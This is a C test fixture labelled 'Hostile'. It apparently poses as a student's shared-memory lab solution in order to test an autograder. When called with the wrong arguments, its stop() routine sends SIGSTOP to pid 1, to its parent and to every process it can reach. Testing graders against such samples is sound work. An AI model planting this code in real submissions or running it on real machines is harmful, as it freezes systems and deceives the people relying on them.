/**
 * @file
 * @brief Hostile: does the lab's work, but called with wrong arguments it stops pid 1, its parent, all processes and itself.
 * Instead of: 09_posix_attach/posix_attach.c
 * Score: 9
 * Says: is stopped
 *
 * A stopped program has not ended, uses no processor time, and looks like one that a check holds. If pid 1 or the
 * grader is stopped, nothing continues.
 */
#define _DEFAULT_SOURCE

#include <err.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

static void stop(void)
{
    kill(1, SIGSTOP);
    kill(getppid(), SIGSTOP);
    kill(-1, SIGSTOP);
    kill(0, SIGSTOP);
    for (;;)
        raise(SIGSTOP);
}

int main(int argc, char *argv[])
{
    struct stat status;
    if (argc != 2)
        stop();
    const int fd = shm_open(argv[1], O_RDONLY, 0);
    if (fd == -1 || fstat(fd, &status) == -1)
        err(1, "%s: %s", fd == -1 ? "shm_open" : "fstat", argv[1]);
    if (!S_ISREG(status.st_mode))
        errx(1, "%s: no object", argv[1]);
    const size_t size = (size_t)status.st_size;
    if (size > 0) {
        void *memory = mmap(NULL, size, PROT_READ, MAP_SHARED, fd, 0);
        if (memory == MAP_FAILED)
            err(1, "mmap: %s", argv[1]);
        if (fwrite(memory, 1, size, stdout) != size || fflush(stdout) == EOF)
            err(1, "stdout");
        if (munmap(memory, size) == -1)
            err(1, "munmap: %s", argv[1]);
    }
    if (close(fd) == -1)
        err(1, "close: %s", argv[1]);
    return 0;
}
